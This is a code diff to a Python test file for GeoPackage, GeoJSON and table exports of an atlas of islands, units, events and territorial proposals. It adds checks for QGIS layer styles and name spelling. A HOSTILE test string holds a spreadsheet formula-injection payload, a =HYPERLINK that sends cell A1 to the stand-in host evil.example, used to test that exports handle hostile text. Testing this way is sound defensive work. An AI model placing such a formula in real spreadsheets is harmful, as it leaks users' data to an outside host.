@@ -1,23 +1,35 @@
 """The GeoPackage to take away, opened again; and the data of the articles alone, and of hostile text."""
 
 import json
+import re
 from concurrent.futures import ThreadPoolExecutor
+from xml.etree import ElementTree
 
 import geopandas
 import pyogrio
 import pytest
 
+from content.data import names
 from content.data.join import load_atlas
 from content.exports import data
 from content.exports.data import geojson, geopackage, table
 from content.model.types import RECORDS
 from geo import UNITS
 from geo.layers import read_layer
+from geo.styles import TOKENS
 from tests.exports.data_read import ATLAS, BOOKS, EDITION, cells
 from tests.project import change, records
 
+
+def spelled(text):
+    return names.spelled(text, BOOKS.units)
+
+
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"a")\nsecond, line\r\n\'quoted\' <b>&amp;</b> 択捉'
-LAYERS = ["units", "areas", "populations", "events", "proposals", "shares", "sources", "about"]
+LAYERS = [
+    *("units", "areas", "populations", "events", "proposals", "shares", "sources"),
+    *("columns", "about", "layer_styles"),
+]
 
 
 @pytest.fixture(scope="module")
@@ -47,7 +59,20 @@ def test_geopackage_has_its_layers(package):
         "events": len(BOOKS.events),
         "proposals": len(BOOKS.proposals),
     }
-    assert len(package["areas"]) == sum(len(dossier.areas) for dossier in ATLAS.dossiers.values())
+    assert len(package["areas"]) == len(ATLAS.areas)
+    columns = {name for layer in LAYERS[:7] for name in package[layer].columns} - {"geometry"}
+    assert set(package["columns"]["column"]) == columns
+
+
+def test_qgis_finds_its_style(package):
+    """The table and the columns by which QGIS looks for it, as its provider for OGR does."""
+    style = package["layer_styles"].iloc[0]
+    assert (style.f_table_schema, style.f_table_name, style.f_geometry_column) == ("", "units", "geom")
+    drawn = ElementTree.fromstring(style.styleQML)
+    assert style.useAsDefault and drawn.find(".//prop[@k='color']").get("v") == TOKENS["light"]["unit"]
+    named = drawn.find(".//text-style").get("fieldName")
+    assert all(name in package["units"].columns for name in re.findall(r"name_\w+", named))
+    assert "{" not in style.styleQML
 
 
 def test_geopackage_has_the_outlines(opened, tmp_path):
@@ -64,14 +89,14 @@ def test_geopackage_has_the_outlines(opened, tmp_path):
 def test_about_can_be_read(package):
     told = dict(zip(package["about"]["subject"], package["about"]["text"], strict=True))
     assert told == data.about(ATLAS, EDITION, "all")
-    assert told["altered"] == data.ALTERED and told["edition"] == EDITION
+    assert told["edition"] == EDITION
 
 
 @pytest.mark.parametrize("record", RECORDS)
 def test_every_row_names_sources_that_are_listed(opened, record):
     layers = opened(geopackage(ATLAS, EDITION, record))
     labels = dict(zip(layers["sources"]["id"], layers["sources"]["label"], strict=True))
-    for name in layers.keys() - {"sources", "about"}:
+    for name in layers.keys() & set(LAYERS[:6]):
         for row in layers[name].itertuples():
             ids = row.source_ids.split()
             assert ids and all(labels[source] in row.source for source in ids)
@@ -81,13 +106,13 @@ def test_events_and_proposals_say_what_the_records_say(package):
     for row in package["events"].itertuples():
         event = BOOKS.events[row.event]
         assert (row.date, row.until, row.title, tuple(row.units.split())) == (
-            *(event.date, event.until, event.title, event.units),
+            *(event.date, event.until, spelled(event.title), event.units),
         )
-        assert all(statement.text in row.text for statement in event.statements)
+        assert all(spelled(statement.text) in row.text for statement in event.statements)
     for row in package["proposals"].itertuples():
         proposal = BOOKS.proposals[row.proposal]
         told = "\n".join(getattr(row, name) or "" for name in ("terms", "accounts", "conditions", "answer", "fate"))
-        assert all(statement.text in told for statement in proposal.statements)
+        assert all(spelled(statement.text) in told for statement in proposal.statements)
     offer = package["proposals"].set_index("proposal").loc["transfer-1956"]
     assert list(offer[list(UNITS)]) == ["not addressed", "not addressed", "handed to Japan", "handed to Japan"]
 
